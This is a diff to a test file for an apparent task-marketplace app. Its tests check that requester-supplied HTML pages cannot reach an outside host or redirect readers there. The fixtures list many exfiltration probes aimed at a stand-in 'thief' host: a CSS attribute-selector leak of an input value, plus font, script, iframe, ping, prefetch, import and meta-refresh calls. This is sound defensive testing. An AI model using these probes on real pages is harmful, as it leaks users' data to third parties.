@@ -272,8 +272,7 @@ body {{ background: url("{thief}/background") }}
 @font-face {{ font-family: x; src: url("{thief}/font") }} h1 {{ font-family: x }}
 input[value^="s"] {{ background: url("{thief}/attribute") }}</style>
 <link rel="stylesheet" href="{thief}/sheet"><link rel="prefetch" href="{thief}/prefetch">
-<link rel="icon" href="{thief}/icon"><script src="{thief}/script"></script>
-<meta http-equiv="refresh" content="1;url={thief}/refresh"></head>
+<link rel="icon" href="{thief}/icon"><script src="{thief}/script"></script></head>
 <body><h1>Ready</h1><input value="secret"><img src="{thief}/image"><video src="{thief}/video"></video>
 <iframe src="{thief}/iframe"></iframe><object data="{thief}/object"></object>
 <a id="ping" href="#" ping="{thief}/ping">ping</a>
@@ -288,6 +287,10 @@ import("{thief}/module").catch(() => 0);
 </script></body></html>"""
 
 
+LEAVING = """<!doctype html><html lang="en"><head>
+<meta http-equiv="refresh" content="0;url={thief}/refresh"></head><body><h1>Ready</h1></body></html>"""
+
+
 def test_a_page_of_a_batch_loads_from_its_hosts_only(lab, newcomer, thief, server):
     page = BATCH_SECRETS.format(thief=thief.url)
     group = post_html(lab, page)
@@ -298,9 +301,8 @@ def test_a_page_of_a_batch_loads_from_its_hosts_only(lab, newcomer, thief, serve
     mira.page.wait_for_timeout(1500)
     loaded = {line.split()[1] for line in thief.asked}
     assert {"/image", "/fetch", "/sheet"} <= loaded  # with a key, a requester loads from anywhere
-    assert "/refresh" not in loaded
     thief.asked.clear()
-    server.manage("shell", "-c", MADE_BATCH.format(hit_id=hit_id))
+    server.manage("shell", "-c", MADE_BATCH.format(hit_id=hit_id, number=1))
     mira.page.goto(f"/projects/{group}/tasks")
     expect(task(mira).get_by_role("heading")).to_have_text("Ready")
     task(mira).locator("#ping").click()
@@ -308,10 +310,22 @@ def test_a_page_of_a_batch_loads_from_its_hosts_only(lab, newcomer, thief, serve
     assert thief.asked == []
 
 
+def test_no_page_sends_its_reader_elsewhere(lab, newcomer, thief, server):
+    group = post_html(lab, LEAVING.format(thief=thief.url))
+    hit_id = lab.account.client.list_hits()["HITs"][0]["HITId"]
+    mira = newcomer()
+    mira.page.goto(f"/projects/{group}/tasks")
+    mira.page.wait_for_timeout(1500)
+    server.manage("shell", "-c", MADE_BATCH.format(hit_id=hit_id, number=2))
+    mira.page.goto(f"/projects/{group}/tasks")
+    mira.page.wait_for_timeout(1500)
+    assert [line for line in thief.asked if "/refresh" in line] == []
+
+
 MADE_BATCH = """
 from marketplace.models import HIT, Batch
 hit = HIT.objects.get(hit_id="{hit_id}")
-hit.batch = Batch.objects.create(requester=hit.requester, number=1, name="b", html="", hosts=[], columns=[],
-    properties={{}}, task_count=1, created_at=hit.created_at)
+hit.batch = Batch.objects.create(requester=hit.requester, number={number}, name="b", html="", hosts=[],
+    columns=[], properties={{}}, task_count=1, created_at=hit.created_at)
 hit.save()
 """
